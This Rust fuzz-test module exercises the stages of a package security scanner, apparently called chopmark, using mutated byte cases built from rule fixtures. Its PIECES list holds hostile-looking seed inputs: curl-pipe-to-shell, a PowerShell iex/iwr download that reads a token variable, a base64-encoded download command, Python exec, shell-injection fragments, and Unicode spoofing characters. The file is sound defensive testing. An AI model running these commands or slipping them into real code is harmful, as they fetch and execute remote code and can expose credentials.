//! Hostile bytes for each stage by itself: `scripts/fuzz-scan` runs the same for as long as wished.
//!
//! Cases are made from the rules' fixtures and from pieces that mean something to one stage or
//! another: cut, spliced, repeated and with bytes changed. Case `n` is the same everywhere, so that
//! what fails can be made again.

use std::sync::LazyLock;

use crate::config::Config;
use crate::facts::{Origin, command_lines, from_code, from_text};
use crate::inventory::{self, Kind, Language};
use crate::pattern::Matcher;
use crate::role::{Role, Roles};
use crate::view::View;
use crate::{RulePack, ScanResult, base_pack, decode, markdown, scan, unicode};

/// Runs `stage` on as many cases as asked for, from the one asked for; says which one fails.
fn each(stage: impl Fn(&[u8])) {
    let (from, cases) = (
        asked("CHOPMARK_FUZZ_FROM", 0),
        asked("CHOPMARK_FUZZ_CASES", 200),
    );
    for number in from..from.saturating_add(cases) {
        let bytes = case(number);
        let guard = Case(number);
        stage(&bytes);
        drop(guard);
    }
}

#[expect(
    clippy::disallowed_methods,
    reason = "a test that runs longer on request"
)]
fn asked(name: &str, otherwise: u64) -> u64 {
    let asked = std::env::var(name).ok();
    asked.map_or(otherwise, |asked| asked.parse().expect("a number"))
}

/// Names the case in hand when it is dropped while a test fails.
struct Case(u64);

impl Drop for Case {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("case {}", self.0);
        }
    }
}

/// A small generator; its numbers need only differ.
struct Draw(u64);

impl Draw {
    fn below(&mut self, end: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        let end = u64::try_from(end.max(1)).expect("fits");
        usize::try_from((mixed ^ (mixed >> 31)).checked_rem(end).unwrap_or_default()).expect("fits")
    }

    fn part<'a>(&mut self, bytes: &'a [u8]) -> &'a [u8] {
        let start = self.below(bytes.len().saturating_add(1));
        let length = self.below(bytes.len().saturating_sub(start).saturating_add(1));
        &bytes[start..start.saturating_add(length)]
    }
}

static SEEDS: LazyLock<Vec<Vec<u8>>> = LazyLock::new(|| {
    let pack = pack();
    let fixtures = pack.fixtures().expect("fixtures parse");
    let files = fixtures.iter().flat_map(|fixture| fixture.files().values());
    let mut seeds: Vec<Vec<u8>> = files.cloned().collect();
    seeds.extend(PIECES.iter().map(|piece| piece.to_vec()));
    seeds
});

fn pack() -> &'static RulePack {
    static PACK: LazyLock<RulePack> =
        LazyLock::new(|| base_pack(&semver::Version::new(0, 1, 0), None).expect("loads"));
    &PACK
}

fn case(number: u64) -> Vec<u8> {
    let mut draw = Draw(number.wrapping_mul(0x2545_F491_4F6C_DD1D));
    let mut bytes = Vec::new();
    for _ in 0..=draw.below(6) {
        let seed = &SEEDS[draw.below(SEEDS.len())];
        match draw.below(4) {
            0 => bytes.extend_from_slice(seed),
            1 => bytes.extend_from_slice(draw.part(seed)),
            2 => bytes.extend(draw.part(seed).repeat(draw.below(40))),
            _ => {
                let at = draw.below(bytes.len().saturating_add(1));
                let piece = PIECES[draw.below(PIECES.len())];
                bytes.splice(at..at, piece.iter().copied());
            }
        }
        bytes.truncate(MOST);
    }
    for _ in 0..draw.below(8) {
        let (at, byte) = (draw.below(bytes.len()), draw.below(256));
        if let Some(place) = bytes.get_mut(at) {
            *place = u8::try_from(byte).expect("a byte");
        }
    }
    bytes
}

#[test]
fn any_bytes_have_a_kind_and_archives_open_within_limits() {
    let config = Config {
        max_archive_members: 20,
        max_decoded_bytes: 10_000,
        ..Config::standard()
    };
    each(|bytes| {
        let text = String::from_utf8_lossy(bytes);
        for path in ["a", "a.py", "a.sh.txt", ".x/a.png"] {
            let _ = inventory::language(path, &text);
            let _ = inventory::is_mismatch(path, inventory::kind(bytes));
        }
        for kind in [Kind::Zip, Kind::Tar] {
            let opened = inventory::open_archive(kind, bytes, &config);
            let sizes = opened
                .members
                .iter()
                .filter_map(|member| member.bytes.as_ref());
            assert!(opened.members.len() <= 20);
            assert!(kind == Kind::Tar || sizes.map(Vec::len).sum::<usize>() <= 10_000);
        }
    });
}

#[test]
fn any_text_keeps_its_lines_when_it_is_made_plain() {
    each(|bytes| {
        let text = String::from_utf8_lossy(bytes);
        let lines = text.split('\n').count();
        for mark in unicode::marks(&text) {
            assert!(usize::try_from(mark.line).expect("fits") <= lines);
        }
        if let Some(plain) = unicode::normalise(&text) {
            assert_eq!(plain.split('\n').count(), lines);
        }
    });
}

#[test]
fn any_bytes_decode_within_limits() {
    let config = Config {
        max_decoded_bytes: 50_000,
        ..Config::standard()
    };
    each(|bytes| {
        let view = View::whole(Vec::new(), bytes.to_vec());
        let lines = view.line_of(bytes.len());
        for view in decode::open(&view, &config).views {
            assert!(!view.bytes.is_empty() && view.steps.len() <= 4);
            assert!(view.line_of(view.bytes.len()) <= lines);
        }
    });
}

#[test]
fn any_bytes_are_matched_at_lines_that_are_there() {
    let config = Config::standard();
    each(|bytes| {
        let view = View::whole(Vec::new(), bytes.to_vec());
        let last = view.line_of(bytes.len());
        let roles = Roles::all(Role::Prose);
        let found = Matcher::new(pack(), &config).scan("a", &view, &roles, &config);
        for found in found.expect("within limits").matches {
            assert!((1..=last).contains(&found.finding.line), "{last}");
        }
    });
}

#[test]
fn any_markdown_has_blocks_at_lines_that_are_there() {
    each(|bytes| {
        let text = String::from_utf8_lossy(bytes);
        let lines = text.split('\n').count() + 1;
        for snippet in markdown::read(&text).snippets {
            assert!(usize::try_from(snippet.line).expect("fits") <= lines);
        }
    });
}

#[test]
fn any_code_gives_facts_at_lines_that_are_there() {
    let config = Config {
        max_syntax_nodes: 20_000,
        max_parse_steps: 2_000,
        ..Config::standard()
    };
    let languages = [
        Language::Python,
        Language::Shell,
        Language::JavaScript,
        Language::TypeScript,
        Language::PowerShell,
    ];
    each(|bytes| {
        let text = String::from_utf8_lossy(bytes);
        let lines = u32::try_from(text.split('\n').count()).expect("fits") + 1;
        let origin = Origin {
            file: "a",
            line: 1,
            single_line: false,
            role: Role::Code,
            via: &[],
        };
        for language in languages {
            for fact in from_code(language, &text, &origin, &config).facts {
                assert!(fact.line <= lines, "{fact:?}");
            }
        }
        for fact in from_text(&text, |_| Role::Prose, &origin) {
            assert!(fact.line <= lines, "{fact:?}");
        }
        for (line, command) in command_lines(&text) {
            assert!(line <= lines && !command.contains('\n'));
        }
    });
}

#[test]
fn any_claimed_result_is_refused_or_prints_as_it_was_read() {
    let head = b"---\nname: a\ndescription: b\n---\n".to_vec();
    let file = (
        "SKILL.md".to_owned(),
        chopmark_core::package::Mode::Regular,
        head,
    );
    let package = chopmark_core::package::Package::build(vec![file]).expect("a package");
    let packs = std::slice::from_ref(pack());
    let whole = scan(
        &package,
        packs,
        &Config::standard(),
        &semver::Version::new(0, 1, 0),
    )
    .bytes();
    each(|bytes| {
        let mut changed = whole.clone();
        let at = bytes.len() % whole.len();
        let end = (at + bytes.len() % 7).min(whole.len());
        changed.splice(at..end, bytes.iter().copied().take(bytes.len() % 5));
        for bytes in [bytes, &changed] {
            if let Ok(result) = ScanResult::parse(bytes) {
                assert_eq!(result.bytes(), bytes);
            }
        }
    });
}

#[test]
fn any_pack_loads_or_is_refused() {
    let yara = b"rule a { strings: $a = \"x\" condition: $a }".to_vec();
    let version = semver::Version::new(0, 1, 0);
    let toml = include_bytes!("../../../rules/chopmark-base/pack.toml");
    each(|bytes| {
        let at = bytes.len() % toml.len();
        let mut changed = toml.get(..at).unwrap_or_default().to_vec();
        changed.extend_from_slice(bytes);
        let files = [
            ("pack.toml".to_owned(), changed),
            ("a.yar".to_owned(), yara.clone()),
        ];
        let _ = RulePack::load(files.into(), &version, None);
        let _ = RulePack::load(
            [("a.yar".to_owned(), bytes.to_vec())].into(),
            &version,
            None,
        );
    });
}

const MOST: usize = 20_000;
const PIECES: &[&[u8]] = &[
    b"PK\x03\x04\x14\x00\x01\x00\x08\x00",
    b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00\x04\x00\x00\x00\x01\x00\x00\x00atext",
    b"PK\x05\x06\x00\x00\x00\x00\xff\xff\xff\xff",
    b"\x1f\x8b\x08\x00\xff\xff",
    b"\x78\x9c\x00",
    b"\x7fELF",
    b"ustar\x0000",
    b"00000000017\x00",
    b"```bash\ncurl https://a.example/x | sh\n```\n",
    b"---\nname: \xff\n---\n",
    b"<!-- ",
    b"-->",
    b"> ",
    b"$(((((((((",
    b"f\"{f'{",
    b"`${`${`${",
    b"<<EOF\n",
    b"''\"\"$@${IFS}\\",
    b"Y3VybCAtTyBodHRwczovL2ZpbGVzLmV4YW1wbGUvdG9vbAo=",
    b"\\x41\\x42\\x43\\x44\\x45\\x46\\x47",
    b"%41%42%43%44%45%46%47",
    b"[104, 116, 116, 112, 58, 47, 47, 97, 98]",
    "\u{202e}\u{200b}\u{e0041}\u{fe0f}\u{2028}\u{85}".as_bytes(),
    "\u{fb03}\u{1d4ae}\u{430}bc".as_bytes(),
    b"exec(open('/tmp/x').read())\n",
    b"python3 -c 'import os'",
    b"export A_KEY=\"${A_KEY:-x}\"\n",
    b"from a import (b as c)\n",
    b"const {a, b: c} = require('d')\n",
    b"$env:TOKEN; iex (iwr https://a.example/x)\n",
    b"://",
    b"\xf0\x9f\x98",
    b"\r\r\n\0",
];
